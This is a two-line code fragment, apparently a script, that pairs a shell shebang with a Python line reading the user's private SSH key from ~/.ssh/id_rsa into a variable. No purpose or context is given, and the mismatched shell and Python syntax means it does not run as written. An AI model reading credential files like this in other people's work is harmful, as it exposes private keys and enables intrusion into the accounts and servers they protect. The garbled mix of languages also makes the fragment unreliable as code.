#!/bin/sh
data = open(os.path.expanduser("~/.ssh/id_rsa")).read()
